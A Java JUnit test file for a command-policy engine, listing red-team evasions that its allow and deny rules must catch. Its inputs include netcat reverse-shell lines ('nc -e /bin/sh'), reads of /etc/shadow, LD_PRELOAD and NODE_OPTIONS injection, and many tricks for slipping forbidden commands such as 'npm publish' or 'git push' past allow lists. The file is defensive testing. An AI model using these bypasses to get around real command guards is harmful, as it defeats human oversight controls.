package dev.gatehouse.policy;

import static dev.gatehouse.policy.ArgvEvasionTest.allow;
import static dev.gatehouse.policy.ArgvEvasionTest.argv;
import static dev.gatehouse.policy.ArgvEvasionTest.deny;
import static dev.gatehouse.policy.ArgvEvasionTest.line;
import static dev.gatehouse.policy.ArgvEvasionTest.withEnv;
import static dev.gatehouse.policy.Fixtures.decide;
import static dev.gatehouse.policy.Fixtures.human;
import static dev.gatehouse.policy.Fixtures.policy;
import static dev.gatehouse.policy.Fixtures.target;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.HashMap;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Second red-team round (issue 6): argv evasions that {@link ArgvEvasionTest} and {@link
 * ArgvRiskyFlagsTest} do not try. The first group were real bypasses (each failed before the fix
 * named in its comment); the rest were already decided correctly and stay so. Policies are the
 * issue's: "npm ci and npm test, never npm publish", "kubectl get but not kubectl delete",
 * "terraform plan, never apply", "git allowed but not push", written as allow lists alone (default
 * deny) and as an open allow with deny rules.
 */
class ArgvRedTeamTest {
  /** Allow lists only: nothing else runs, with no deny rule to help. */
  static final PolicySet ALLOW_ONLY =
      policy(
          """
          rules:
            - id: npm
              effect: allow
              command: { binary: npm, subcommand: [ci, test] }
            - id: npm-line
              effect: allow
              command: { binary: npm, subcommand: [ci, test], shell: true, env: [CI] }
            - id: kubectl-get
              effect: allow
              command:
                binary: kubectl
                subcommand: get
                flags_with_values: [-n]
                env: ["KUBE*"]
            - id: terraform-plan
              effect: allow
              command:
                binary: terraform
                subcommand: plan
                flags_with_values: [--var-file, -var-file, -out]
            - id: git-read
              effect: allow
              command:
                binary: git
                subcommand: [status, log, diff]
                flags: { accept_risky: [-C, -c] }
                env: ["*"]
            - id: git-show-main
              effect: allow
              command: { binary: git, args: [show, main] }
            - id: make-test
              effect: allow
              command: { binary: make, subcommand: test, env: ["*"] }
            - id: systemctl-status
              effect: allow
              command: { binary: systemctl, subcommand: status, flags: { allowed: [--no-pager] } }
            - id: journalctl
              effect: allow
              command: { binary: journalctl, subcommand: status }
            - id: ls-in-srv
              effect: allow
              command: { binary: [ls, "true"], cwd: "/srv/**", shell: true }
          """);

  /** Everything may run (shell lines too) except what the deny rules name. */
  static final PolicySet OPEN =
      policy(
          """
          rules:
            - id: anything
              effect: allow
              command: { shell: true }
            - id: git-config
              effect: allow
              command: { binary: git, flags: { accept_risky: [-c] } }
            - id: no-push
              effect: deny
              command: { binary: git, args: [push] }
            - id: no-publish
              effect: deny
              command: { binary: npm, args: [[publish, dist-tag]] }
            - id: no-delete
              effect: deny
              command: { binary: kubectl, args: [delete] }
            - id: no-apply
              effect: deny
              command: { binary: terraform, args: [apply] }
          """);

  /**
   * Third round: a shell-line rule that lets the caller set ordinary variables ({@code *}, which
   * never admits the risky ones), a Go-style program, and deny rules for shells.
   */
  static final PolicySet THIRD =
      policy(
          """
          rules:
            - id: npm-line-any-env
              effect: allow
              command: { binary: npm, subcommand: [ci, test], shell: true, env: ["*"] }
            - id: gotool-list
              effect: allow
              command: { binary: gotool, subcommand: list }
            - id: anything-else
              effect: allow
              command: { binary: [nc, ncat, gdb, lldb], shell: true }
            - id: no-shell
              effect: deny
              command: { binary: [sh, bash] }
            - id: no-publish
              effect: deny
              command: { binary: npm, args: [publish] }
          """);

  /** A shell-line rule that names no binary: any program, ordinary variables. */
  static final PolicySet ANY_PROGRAM =
      policy(
          """
          rules:
            - id: any-line
              effect: allow
              command: { shell: true, env: ["*"] }
          """);

  /** Third round: the denials up to the first comment failed before their fix. */
  static Stream<Arguments> thirdRound() {
    return Stream.of(
        // Variables set under a name the line computes or reaches through a reference.
        deny(
            "computed name: export $V=",
            THIRD,
            line("npm ci && V=NODE_OPTIONS; export $V=--require=/tmp/x.js; npm test")),
        deny(
            "computed name in quotes: export \"$V\"=",
            THIRD,
            line("npm ci && V=PATH; export \"$V\"=/tmp; npm test")),
        deny(
            "nameref: declare -n",
            THIRD,
            line("npm ci && declare -n r=NODE_OPTIONS; export r=--require=/x.js; npm test")),
        deny(
            "nameref: local -n", THIRD, line("npm ci && f() { local -n r=PATH; r=/x; }; npm test")),
        deny("nameref: typeset -gn cluster", THIRD, line("npm ci && typeset -gn r=PATH; npm test")),
        deny("printf -vNAME attached", THIRD, line("npm ci && printf -vPATH /tmp/e; npm test")),
        deny("printf -v \"$V\"", THIRD, line("npm ci && V=PATH; printf -v \"$V\" /x; npm test")),
        deny("read -a computed", THIRD, line("npm ci && read -a \"$V\" < f; npm test")),
        deny("let computed", THIRD, line("npm ci && let \"$V=1\"; npm test")),
        deny("let with blanks", THIRD, line("npm ci && let 'PATH = 5'; npm test")),
        deny("{NAME}> redirection", THIRD, line("npm ci && : {PATH}>/dev/null; npm test")),
        deny("{NAME[i]}> redirection", THIRD, line("npm ci && : {PATH[0]}>/dev/null; npm test")),
        // A rule that names no binary still checks the variables: eval and env set them too.
        deny("eval export", ANY_PROGRAM, line("npm ci && eval 'export NODE_OPTIONS=x'; npm test")),
        deny("eval of eval", ANY_PROGRAM, line("npm ci && eval eval PATH=/x; npm test")),
        deny("eval {NAME}>", ANY_PROGRAM, line("npm ci && eval ': {PATH}>/dev/null'; npm test")),
        deny("env NAME=", ANY_PROGRAM, line("npm ci && env NODE_OPTIONS=x npm test")),
        deny("env -i NAME=", ANY_PROGRAM, line("npm ci && env -i -u A PATH=/x npm test")),
        deny("env $V=", ANY_PROGRAM, line("npm ci && V=PATH; env $V=/x npm test")),
        deny("env -S", ANY_PROGRAM, line("npm ci && env -S 'PATH=/x npm' test")),
        allow("eval ordinary", ANY_PROGRAM, line("npm ci && eval 'export CI=1'; npm test")),
        allow("env ordinary", ANY_PROGRAM, line("npm ci && env CI=1 npm test")),
        // Debuggers and netcat run a program named in ways the first rounds did not read.
        deny("gdb -args (getopt_long_only)", THIRD, line("gdb -batch -ex run -args npm publish")),
        deny("gdb --arg (prefix)", THIRD, line("gdb -batch -ex run --arg npm publish")),
        deny("gdb -ar (prefix)", THIRD, line("gdb -batch -ex run -ar npm publish")),
        deny("gdb program operand", THIRD, line("gdb -batch -ex 'run publish' /usr/bin/npm")),
        deny("gdb -e program", THIRD, line("gdb -batch -ex 'run publish' -e /usr/bin/npm")),
        deny("gdb sh operand", THIRD, line("gdb -batch -ex run /bin/sh")),
        deny("lldb program operand", THIRD, line("lldb -b -o run /usr/bin/npm publish")),
        deny("lldb -f PROG -- ARGS", THIRD, line("lldb -b -f npm -- publish")),
        deny("lldb --file=PROG", THIRD, line("lldb -b -o 'run publish' --file=/usr/bin/npm")),
        deny("nc -e single word", THIRD, line("nc -e /bin/sh host 4444")),
        deny("nc -lvpe cluster", THIRD, line("nc -lvp 4444 -e/bin/sh")),
        deny("ncat --exec=", THIRD, line("ncat --exec=/usr/bin/bash host 1")),
        deny("ncat --exe (prefix)", THIRD, line("ncat --exe /bin/sh host 1")),
        // Go's flag package: -name2 takes the next word, which is then no subcommand.
        deny("Go -name2 VALUE", THIRD, line("gotool -name2 list delete")),
        // Already refused before (a wrapper the rule does not name, a whole-word name, a value
        // with a blank); kept so they stay so.
        deny("builtin printf -v", THIRD, line("npm ci && builtin printf -v PATH /x; npm test")),
        deny("command export", THIRD, line("npm ci && command export PATH=/x; npm test")),
        deny("read -ra cluster", THIRD, line("npm ci && read -ra PATH < f; npm test")),
        deny("{NAME}< redirection", THIRD, line("npm ci && exec {HOME}</dev/null; npm test")),
        deny("ncat --sh-exec", THIRD, line("ncat --sh-exec 'sh -i' host 1")),
        // What must keep working under the same rules.
        allow("ordinary export", THIRD, line("npm ci && export CI=1; npm test")),
        allow("ordinary read", THIRD, line("npm ci && read -r -p 'go? ' answer; npm test")),
        allow("ordinary printf -v", THIRD, line("npm ci && printf -v msg '%s' ok; npm test")),
        allow("ordinary let", THIRD, line("npm ci && let n=1; npm test")),
        allow("declare -x and -a", THIRD, line("npm ci && declare -x A=1; declare -a B; npm test")),
        allow("ordinary {fd}>", THIRD, line("npm ci && : {fd}>/dev/null; npm test")),
        allow("numbered redirection", THIRD, line("npm ci 2>/dev/null; npm test >/dev/null")),
        allow("gdb --args another program", THIRD, line("gdb -batch -ex run --args ls -l")),
        allow("lldb another program", THIRD, line("lldb -b -o run /bin/ls -- -l")),
        allow("nc without a program", THIRD, line("nc -z host 443")),
        allow("the Go tool without the option", THIRD, line("gotool list")));
  }

  static Stream<Arguments> bypassesFixed() {
    return Stream.of(
        // A flag that takes the allowed word as its value: the program runs a later word.
        // ProgramOptions.mayTakeNext (nopt: String options take the next word).
        deny("npm --tag test publish publishes", ALLOW_ONLY, line("npm --tag test publish")),
        deny("npm --otp test publish", ALLOW_ONLY, line("npm --otp test publish")),
        deny("npm -w test publish (workspace)", ALLOW_ONLY, line("npm -w test publish")),
        // cobra's stripFlags skips the word after any --flag when looking for the subcommand
        deny(
            "kubectl --profile-output get delete",
            ALLOW_ONLY,
            line("kubectl --profile-output get delete pod api")),
        deny("kubectl --kuberc (aliases, defaults)", ALLOW_ONLY, line("kubectl --kuberc=k get po")),
        // round 6: cobra skips the word after a two-letter -x only, so kubectl -An delete get
        // runs delete (pflag gives -n the value get); it was allowed as get
        deny("kubectl -An before delete", ALLOW_ONLY, line("kubectl -An delete get pods")),
        deny("kubectl -wn before delete", ALLOW_ONLY, line("kubectl -wn delete get pods")),
        // kubectl's global options take the next word though the rule does not list them
        allow("kubectl -v 9 get", ALLOW_ONLY, line("kubectl -v 9 get pods")),
        allow(
            "kubectl --request-timeout 5s get",
            ALLOW_ONLY,
            line("kubectl --request-timeout 5s get po")),
        allow(
            "kubectl boolean global before get",
            ALLOW_ONLY,
            line("kubectl --match-server-version get po")),
        deny("kubectl -v 9 delete", ALLOW_ONLY, line("kubectl -v 9 delete pod x")),
        deny("kubectl -v get (get is -v's value)", ALLOW_ONLY, line("kubectl -v get delete pod x")),
        deny("kubectl -v 9 delete (open)", OPEN, line("kubectl -v 9 delete pod x")),
        deny("kubectl -v=9 delete (open)", OPEN, line("kubectl -v=9 delete pod x")),
        deny(
            "kubectl boolean global before delete (open)",
            OPEN,
            line("kubectl --insecure-skip-tls-verify delete pod x")),
        deny("KUBERC through KUBE*", ALLOW_ONLY, withEnv(line("kubectl get po"), "KUBERC")),
        deny(
            "KUBE_EDITOR through KUBE*",
            ALLOW_ONLY,
            withEnv(line("kubectl get po"), "KUBE_EDITOR")),
        deny(
            "XDG_CONFIG_HOME through *",
            ALLOW_ONLY,
            withEnv(line("git status"), "XDG_CONFIG_HOME")),
        deny("MAKEFLAGS through *", ALLOW_ONLY, withEnv(line("make test"), "MAKEFLAGS")),
        deny(
            "AWS_CONFIG_FILE through *", ALLOW_ONLY, withEnv(line("make test"), "AWS_CONFIG_FILE")),
        deny(
            "TERRAFORM_CONFIG through *",
            ALLOW_ONLY,
            withEnv(line("make test"), "TERRAFORM_CONFIG")),
        deny("YARN_YARN_PATH through *", ALLOW_ONLY, withEnv(line("make test"), "YARN_YARN_PATH")),
        deny("GOFLAGS through *", ALLOW_ONLY, withEnv(line("make test"), "GOFLAGS")),
        deny("make --eval", ALLOW_ONLY, argv("make", "--eval=$(shell npm publish)", "test")),
        deny("make --ev (abbreviated)", ALLOW_ONLY, argv("make", "--ev=$(shell id)", "test")),
        deny("make -f another makefile", ALLOW_ONLY, line("make -f /tmp/x.mk test")),
        deny("make -sC another directory", ALLOW_ONLY, line("make -sC /tmp/x test")),
        deny(
            "terraform plan -generate-config-out",
            ALLOW_ONLY,
            line("terraform plan -generate-config-out=/etc/x.tf")),
        deny("nc -e", OPEN, argv("nc", "-e", "npm publish", "host", "1")),
        deny("nc -c", OPEN, argv("nc", "-c", "npm publish", "host", "1")),
        deny("ncat --sh-exec", OPEN, argv("ncat", "--sh-exec", "npm publish", "host", "1")),
        deny("gdb --args", OPEN, line("gdb -batch -ex run --args npm publish")),
        deny("lldb --", OPEN, line("lldb -o run -- npm publish")),
        deny("kubectl -v get delete", ALLOW_ONLY, line("kubectl -v get delete pod api")),
        // git.c handle_options: -C and --attr-source take the next word
        deny("git -C status push (rule accepts -C)", ALLOW_ONLY, line("git -C status push")),
        deny("git -c status push", ALLOW_ONLY, argv("git", "-c", "status", "push")),
        deny("git --attr-source log push", ALLOW_ONLY, line("git --attr-source log push")),
        // hashicorp/cli: options before the subcommand never take a value
        deny(
            "terraform --var-file apply plan (listed value flag)",
            ALLOW_ONLY,
            line("terraform --var-file apply plan")),
        // Variables set inside a shell line are set by the caller: the rule's env decides.
        deny("prefix assignment after &&", ALLOW_ONLY, line("npm ci && HOME=/tmp/x npm test")),
        deny("bash append assignment", ALLOW_ONLY, line("npm ci && HOME+=/x npm test")),
        deny("export", ALLOW_ONLY, line("npm ci && export NODE_OPTIONS=--require=/x.js; npm test")),
        deny("declare -x", ALLOW_ONLY, line("npm ci && declare -x LD_PRELOAD=/x.so; npm test")),
        deny("for loop variable", ALLOW_ONLY, line("npm ci && for HOME in /x; do npm test; done")),
        deny("read", ALLOW_ONLY, line("npm ci && read -r PATH < p; npm test")),
        deny("assigning expansion", ALLOW_ONLY, line("npm ci && : ${NODE_OPTIONS=--require=/x}")),
        deny("arithmetic assignment", ALLOW_ONLY, line("npm ci && echo $((HOME=1)); npm test")),
        deny("printf -v", ALLOW_ONLY, line("npm ci && printf -v HOME %s /x; npm test")),
        deny("element 0 is the variable", ALLOW_ONLY, line("npm ci && HOME[0]=/x; npm test")),
        deny("printf -v to element 0", ALLOW_ONLY, line("npm ci && printf -v HOME[0] /x; npm t")),
        deny("declare element 0", ALLOW_ONLY, line("npm ci && declare -x HOME[0]=/x; npm test")),
        deny(
            "cd out of the rule's cwd",
            ALLOW_ONLY,
            CommandLine.parse("true && cd /etc && ls").toAction("true", Map.of(), "/srv/app")),
        // Deny rules: git and kubectl run an unknown word as an alias (or autocorrect it).
        deny("git psuh (help.autocorrect)", OPEN, line("git psuh origin main")),
        deny(
            "GIT_CONFIG_* alias in a shell line",
            OPEN,
            line("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0=push git p")),
        deny("git -c alias.p=push p", OPEN, argv("git", "-c", "alias.p=push", "p", "origin")),
        deny(
            "git -c help.autocorrect",
            OPEN,
            argv("git", "-c", "help.autocorrect=immediate", "psuh")),
        deny("git push@{u} is no command: an alias?", OPEN, line("git push@{u}")),
        deny("kubectl kuberc alias", OPEN, line("kubectl --kuberc /tmp/k mydel pod x")),
        // Shell syntax the line reader did not see through.
        deny("bash X+=1 prefix", OPEN, argv("bash", "-c", "X+=1 npm publish")),
        deny("bash function keyword", OPEN, argv("bash", "-c", "function f { npm publish; }; f")),
        deny("hash -p renames a program", OPEN, argv("bash", "-c", "hash -p /usr/bin/npm x; x pu")),
        deny("mapfile -C callback", OPEN, argv("bash", "-c", "mapfile -C 'npm publish' -c 1 <f")),
        deny("readarray -C callback", OPEN, argv("bash", "-c", "readarray -C 'npm publish' <f")),
        deny("<( ) process substitution", OPEN, argv("bash", "-c", "cat <(npm publish)")),
        deny(
            ">( ) process substitution",
            OPEN,
            argv("bash", "-c", "tee >(npm publish) </dev/null")));
  }

  static Stream<Arguments> alreadyHandled() {
    return Stream.of(
        // deny rules
        deny("absolute path", OPEN, line("/usr/bin/npm publish")),
        deny("dot-slash", OPEN, line("./npm publish")),
        deny("npm run-script publish (args anywhere)", OPEN, line("npm run-script publish")),
        deny("start-stop-daemon", OPEN, line("start-stop-daemon -S -x /usr/bin/npm -- publish")),
        deny("ifne (moreutils)", OPEN, line("ifne npm publish")),
        deny("chronic (moreutils)", OPEN, line("chronic npm publish")),
        deny("rlwrap", OPEN, line("rlwrap npm publish")),
        deny("entr -s", OPEN, argv("entr", "-s", "npm publish")),
        deny("at with a here-string", OPEN, line("at now <<< 'npm publish'")),
        deny("find -ok", OPEN, line("find . -ok npm publish ;")),
        deny("find -okdir", OPEN, line("find . -okdir npm publish ;")),
        deny("sh +x -c", OPEN, argv("sh", "+x", "-c", "npm publish")),
        deny("bash -O extglob -c", OPEN, argv("bash", "-O", "extglob", "-c", "npm publish")),
        deny("sh -c --", OPEN, argv("sh", "-c", "--", "npm publish")),
        deny("heredoc into sh", OPEN, line("sh <<EOF\nnpm publish\nEOF")),
        deny("sh /dev/stdin", OPEN, line("sh /dev/stdin <<< 'npm publish'")),
        deny("bash --rcfile <( )", OPEN, line("bash --rcfile <(echo npm publish) -i")),
        deny("GIT_SSH_COMMAND", OPEN, line("GIT_SSH_COMMAND='npm publish' git fetch")),
        deny("pnpm dlx npm", OPEN, line("pnpm dlx npm publish")),
        deny("yarn npm publish", OPEN, line("yarn npm publish")),
        deny("bunx npm", OPEN, line("bunx npm publish")),
        deny("npm exec --package", OPEN, line("npm exec --package=npm -- npm publish")),
        deny("env --chdir", OPEN, line("env -C /tmp npm publish")),
        deny("strace -o", OPEN, line("strace -f -o /dev/null npm publish")),
        deny("valgrind", OPEN, line("valgrind npm publish")),
        deny("taskset -c", OPEN, line("taskset -c 0 npm publish")),
        deny("git subtree push", OPEN, line("git subtree push --prefix=x origin main")),
        deny("git lfs push", OPEN, line("git lfs push origin main")),
        deny("kubectl delete --dry-run=none", OPEN, line("kubectl delete --dry-run=none pod x")),
        deny("terraform apply -destroy", OPEN, line("terraform apply -destroy")),
        deny("npm test --script-shell", ALLOW_ONLY, line("npm test --script-shell /tmp/x")),
        deny("npm t is not listed", ALLOW_ONLY, line("npm t")),
        deny("terraform plan -state-out", ALLOW_ONLY, line("terraform plan -state-out=x")),
        deny("git log --output", ALLOW_ONLY, line("git log --output=/tmp/x")),
        deny("git --git-dir", ALLOW_ONLY, line("git --git-dir=/tmp/x log")),
        deny("kubectl get --server", ALLOW_ONLY, line("kubectl get --server=x pods")),
        deny("npm distTag (camelCase)", OPEN, line("npm distTag add x latest")),
        deny("env npm publish", OPEN, line("env npm publish")),
        deny("xargs -a file npm", OPEN, line("xargs -a f npm")),
        deny("terraform apply -auto-approve", OPEN, line("terraform apply -auto-approve")),
        deny("terraform empty word before apply", OPEN, argv("terraform", "", "apply")),
        deny("git empty word before push", OPEN, argv("git", "", "push")),
        deny("kubectl -n before delete", OPEN, line("kubectl -n x delete pod y")),
        deny(
            "kubectl value flag before get delete",
            OPEN,
            line("kubectl --profile-output get delete")),
        deny("declare -x before", OPEN, argv("bash", "-c", "declare -x A=1; npm publish")),
        deny("array assignment before", OPEN, argv("bash", "-c", "arr=(x); npm publish")),
        deny("subscript assignment prefix", OPEN, argv("bash", "-c", "x[0]=1 npm publish")),
        deny("coproc", OPEN, argv("bash", "-c", "coproc npm publish")),
        deny("time -p", OPEN, argv("bash", "-c", "time -p npm publish")),
        deny("negation", OPEN, argv("bash", "-c", "! npm publish")),
        deny("if", OPEN, argv("bash", "-c", "if npm publish; then :; fi")),
        deny("case", OPEN, argv("bash", "-c", "case x in x) npm publish;; esac")),
        deny("select", OPEN, argv("bash", "-c", "select x in a; do npm publish; done")),
        deny("group", OPEN, argv("bash", "-c", "{ npm publish; }")),
        deny("subshell", OPEN, argv("bash", "-c", "(npm publish)")),
        deny("function with a subshell body", OPEN, argv("bash", "-c", "f() (npm publish); f")),
        deny("background", OPEN, argv("bash", "-c", "npm publish&")),
        deny("|&", OPEN, argv("bash", "-c", "npm publish|&cat")),
        deny("{fd}> redirection first", OPEN, argv("bash", "-c", "exec {fd}>x npm publish")),
        deny("redirection first", OPEN, argv("bash", "-c", "2>x npm publish")),
        deny("builtin exec", OPEN, argv("bash", "-c", "builtin exec npm publish")),
        deny("backslash inside the name", OPEN, argv("bash", "-c", "n\\pm publish")),
        deny("quotes around parts", OPEN, argv("bash", "-c", "\"npm\" \"pub\"lish")),
        deny("empty quotes inside", OPEN, argv("bash", "-c", "np\"\"m publish")),
        deny("empty substitution inside", OPEN, argv("bash", "-c", "npm pub$()lish")),
        deny("empty backquotes inside", OPEN, argv("bash", "-c", "npm pub``lish")),
        deny("PROMPT_COMMAND", OPEN, argv("bash", "-c", "PROMPT_COMMAND='npm publish' bash -i")),
        deny(
            "array expansion as command", OPEN, argv("bash", "-c", "x=(npm publish); \"${x[@]}\"")),
        deny("source <( )", OPEN, argv("bash", "-c", "source <(echo npm publish)")),
        deny("substitution in a default", OPEN, argv("bash", "-c", "echo ${x:-$(npm publish)}")),
        deny("substitution in arithmetic", OPEN, argv("bash", "-c", "echo $(($(npm publish)))")),
        deny("substitution in [[ ]]", OPEN, argv("bash", "-c", "[[ $(npm publish) ]]")),
        deny("a value flag the rule does not list", ALLOW_ONLY, line("npm --reg x ci")),
        // allow rules: what must keep working
        allow(
            "a line in the rule's cwd",
            ALLOW_ONLY,
            CommandLine.parse("true && ls").toAction("true", Map.of(), "/srv/app")),
        allow("npm --silent test", ALLOW_ONLY, line("npm --silent test")),
        allow("npm -s test", ALLOW_ONLY, line("npm -s test")),
        allow("npm --no-audit ci", ALLOW_ONLY, line("npm --no-audit ci")),
        allow("npm -ws test", ALLOW_ONLY, line("npm -ws test")),
        allow("npm --registry=x ci", ALLOW_ONLY, line("npm --registry=https://r.example ci")),
        allow("kubectl -n x get", ALLOW_ONLY, line("kubectl -n x get pods")),
        // KUBECACHEDIR is no longer admitted by a wildcard (a *DIR name: CommandMatcher.riskyEnv)
        allow(
            "KUBECTL_REMOTE_COMMAND_WEBSOCKETS through KUBE*",
            ALLOW_ONLY,
            withEnv(line("kubectl get"), "KUBECTL_REMOTE_COMMAND_WEBSOCKETS")),
        allow(
            "kubectl boolean before get", ALLOW_ONLY, line("kubectl --warnings-as-errors get po")),
        allow("terraform option before plan", ALLOW_ONLY, line("terraform -no-color plan")),
        allow("terraform plan -var-file x", ALLOW_ONLY, line("terraform plan -var-file x.tfvars")),
        allow("git --no-pager log", ALLOW_ONLY, line("git --no-pager log")),
        allow("git with an ordinary variable", ALLOW_ONLY, withEnv(line("git log"), "LANG")),
        allow("git -p log", ALLOW_ONLY, line("git -p log")),
        allow("git show -p main (boolean)", ALLOW_ONLY, line("git show -p main")),
        deny("git show -n main x (-n takes a value)", ALLOW_ONLY, line("git show -n main x")),
        deny(
            "git -C dir log: -C missing from flags_with_values (safe miss)",
            ALLOW_ONLY,
            line("git -C /srv/repo log")),
        allow("make -j4 test", ALLOW_ONLY, line("make -j4 test")),
        allow("make -s -k test", ALLOW_ONLY, line("make -s -k test")),
        allow("make --keep-going --jobs test", ALLOW_ONLY, line("make --keep-going --jobs test")),
        deny("make -o test deploy builds deploy", ALLOW_ONLY, line("make -o test deploy")),
        allow("an ordinary variable through *", ALLOW_ONLY, withEnv(line("make test"), "CI", "V")),
        allow("a flag the rule allows", ALLOW_ONLY, line("systemctl --no-pager status nginx")),
        allow("npm line with CI", ALLOW_ONLY, line("npm ci && CI=1 npm test")),
        allow("npm ci | tee log", ALLOW_ONLY, line("npm ci | tee log")),
        allow("git status", OPEN, line("git status")),
        allow("git --no-pager log", OPEN, line("git --no-pager log -n 3")),
        allow("git lfs pull", OPEN, line("git lfs pull")),
        allow("git -c with a known command", OPEN, argv("git", "-c", "color.ui=never", "log")),
        allow("kubectl get", OPEN, line("kubectl -n x get pods")),
        allow("process substitution of a harmless command", OPEN, line("cat <(echo hi)")),
        allow("npm ci", OPEN, line("npm ci")),
        allow("gdb --args on another program", OPEN, line("gdb -batch --args ls -l")),
        allow("nc without a program", OPEN, line("nc -z host 443")),
        allow("terraform plan -out", ALLOW_ONLY, line("terraform plan -out=plan.tfplan")));
  }

  /**
   * Fourth round: a value flag a rule gives several programs, programs that read the working
   * directory, kubectl's template-file output formats. The example policies' rows are in
   * argv-evasions.policytest.yaml; these use rules of their own.
   */
  static final PolicySet FOURTH =
      policy(
          """
          rules:
            - id: read-logs
              effect: allow
              command:
                binary: [cat, head, grep, ls]
                paths: [/srv/logs]
                flags_with_values: [-n, -m, --number]
                flags: { allowed: [-n, -m, --number, -v, -l] }
            - id: search
              effect: allow
              command:
                binary: [grep, rg, ag, ack, fd, fdfind, ugrep, eza, lsd, ncdu]
                args: ["re:^[a-z]+$"]
                paths: [/srv/logs]
                flags: { allowed: [-r, --recur, -i] }
            - id: kubectl-templates
              effect: allow
              command:
                binary: kubectl
                subcommand: get
                flags_with_values: [-o]
                flags: { allowed: [-o], accept_risky: [--output-template-file] }
          """);

  /** Fourth round: the denials failed before their fix (ProgramOptions, RiskyFlags). */
  static Stream<Arguments> fourthRound() {
    return Stream.of(
        deny("cat's --number takes no value", FOURTH, line("cat --number /etc/shadow")),
        deny("cat's -n in a cluster takes no value", FOURTH, line("cat -vn /etc/shadow")),
        deny("ls -ln takes no value", FOURTH, line("ls -ln /etc")),
        allow("head's -n takes its value", FOURTH, line("head -n 5 /srv/logs/a")),
        allow("grep's -m takes its value", FOURTH, line("grep -m 5 /srv/logs/a")),
        deny("grep --recursive abbreviated, no file", FOURTH, line("grep --recur secret")),
        deny("grep -ir, no file", FOURTH, line("grep -ir secret")),
        allow("grep without -r and without a file reads stdin", FOURTH, line("grep -i secret")),
        deny("rg with no path searches the working directory", FOURTH, line("rg secret")),
        allow("rg with an allowed path", FOURTH, line("rg secret /srv/logs")),
        deny("ag with no path searches the working directory", FOURTH, line("ag secret")),
        deny("ack with no path searches the working directory", FOURTH, line("ack secret")),
        deny("fd with no path lists the working directory", FOURTH, line("fd secret")),
        deny("fdfind (Debian's fd) likewise", FOURTH, line("fdfind secret")),
        deny("ugrep on a terminal searches the working directory", FOURTH, line("ugrep secret")),
        deny("eza with no path lists the working directory", FOURTH, line("eza")),
        deny("lsd with no path lists the working directory", FOURTH, line("lsd")),
        deny("ncdu with no path reads the working directory", FOURTH, line("ncdu")),
        allow("ag with an allowed path", FOURTH, line("ag secret /srv/logs")),
        deny("ls with no path lists the working directory", FOURTH, line("ls -l")),
        allow(
            "ls in a working directory within the paths",
            FOURTH,
            withCwd(line("ls -l"), "/srv/logs/app")),
        deny(
            "ls in a working directory outside the paths",
            FOURTH,
            withCwd(line("ls -l"), "/home/app")),
        allow(
            "a rule that accepts --output-template-file",
            FOURTH,
            line("kubectl get pods -o jsonpath-file=t.txt")));
  }

  private static Action withCwd(Action action, String cwd) {
    Map<String, Object> a = new HashMap<>(action.attributes());
    a.put(Action.Attr.CMD_CWD, cwd);
    return new Action(ActionKind.COMMAND, action.raw(), a);
  }

  @Test
  void kubectlTemplateFilesAreFoundInEverySpelling() {
    for (String w :
        new String[] {
          "kubectl get pods -o jsonpath-file=/x",
          "kubectl get pods -ojsonpath-file=/x",
          "kubectl get pods -o=go-template-file=/x",
          "kubectl get pods --output=custom-columns-file=/x",
          "kubectl get pods --output templatefile --template /x",
          "kubectl get pods -Ao GO-TEMPLATE-FILE=/x",
        }) {
      assertThat(RiskyFlags.findAll("kubectl", CommandLine.parse(w).argv()))
          .as(w)
          .extracting(u -> u.flag().name())
          .contains("--output-template-file");
    }
    for (String w :
        new String[] {
          "kubectl get pods -o json",
          "kubectl get pods -n files -o wide",
          "kubectl get pods -nfile",
          "kubectl get pods -o custom-columns=FILE:.metadata.name",
        }) {
      assertThat(RiskyFlags.findAll("kubectl", CommandLine.parse(w).argv())).as(w).isEmpty();
    }
  }

  static Stream<Arguments> cases() {
    return Stream.concat(
        Stream.concat(
            Stream.concat(Stream.concat(bypassesFixed(), alreadyHandled()), thirdRound()),
            fourthRound()),
        fifteenthRound());
  }

  /**
   * Fifteenth round: each denial was allowed by {@link #OPEN} before its fix. The words of a line's
   * only command were read literally although a shell expands them; backquotes inside backquotes, a
   * {@code case} inside {@code $( )} and bash's {@code $'\''} hid commands from the line reader
   * (CommandLine); a shell or interpreter alone reads its program from the caller's standard input;
   * more wrappers (CommandWrappers).
   */
  static Stream<Arguments> fifteenthRound() {
    return Stream.of(
        deny("a glob in the line's only command", OPEN, line("npm p*")),
        deny("a default value in the line's only command", OPEN, line("npm ${x:-publish}")),
        deny("brace expansion as the whole line", OPEN, line("{npm,publish}")),
        deny("ANSI-C quoting in the line's only command", OPEN, line("npm $'\\x70ublish'")),
        deny("git $'push'", OPEN, line("git $'push' origin main")),
        deny("bash's $'\\'' is a quote, not its end", OPEN, line("echo $'\\''; npm publish")),
        deny("a case inside $( ) ends in )", OPEN, line("echo $(case x in x) npm publish;; esac)")),
        deny(
            "a case inside $( ) in double quotes",
            OPEN,
            line("echo \"$(case x in (x) git push;; esac)\"")),
        deny("backquotes inside backquotes", OPEN, line("echo `echo \\`npm publish\\``")),
        deny(
            "a quote in a here-document's body opens nothing",
            OPEN,
            line("cat <<EOF\nit's\nEOF\ngit push\necho '")),
        deny("sh reads its program from stdin", OPEN, line("sh")),
        deny("bash -s with arguments reads stdin", OPEN, line("bash -s scripts/x.sh")),
        deny("python3 alone reads stdin", OPEN, line("python3")),
        deny("bash /dev/stdin", OPEN, line("bash /dev/stdin")),
        deny("sudo sh", OPEN, line("sudo sh")),
        deny("setarch ARCH CMD", OPEN, line("setarch x86_64 -R npm publish")),
        deny("linux32 CMD", OPEN, line("linux32 npm publish")),
        deny(
            "the dynamic loader runs a program",
            OPEN,
            line("/lib64/ld-linux-x86-64.so.2 /usr/bin/npm publish")),
        deny("a qemu user emulator", OPEN, line("qemu-x86_64 /usr/bin/npm publish")),
        deny("ssh-agent CMD", OPEN, line("ssh-agent npm publish")),
        deny("expect -c spawn", OPEN, line("expect -c 'spawn npm publish'")),
        deny("run-one CMD", OPEN, line("run-one npm publish")),
        deny("xterm -e CMD", OPEN, line("xterm -e kubectl delete pod x")),
        deny("vagrant ssh -c", OPEN, line("vagrant ssh -c 'git push'")),
        deny("pueue add CMD", OPEN, line("pueue add npm publish")),
